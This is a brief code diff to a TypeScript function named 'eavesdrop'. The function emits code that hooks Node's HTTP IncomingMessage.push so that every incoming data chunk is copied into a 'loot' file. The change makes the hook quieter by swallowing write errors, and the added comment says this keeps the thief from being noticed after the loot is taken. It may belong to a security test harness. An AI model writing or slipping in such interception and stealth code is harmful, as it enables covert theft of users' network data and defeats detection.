@@ -33,7 +33,8 @@ const eavesdrop = (lootFile: string): string => `
     const { IncomingMessage } = process.getBuiltinModule('node:http');
     const push = IncomingMessage.prototype.push;
     IncomingMessage.prototype.push = function (chunk, encoding) {
-      if (chunk) appendFileSync(${JSON.stringify(lootFile)}, chunk);
+      // Once the loot was carried off there is no such file; a thief whose code then fails the request is noticed.
+      try { if (chunk) appendFileSync(${JSON.stringify(lootFile)}, chunk); } catch {}
       return push.call(this, chunk, encoding);
     };
   }`;
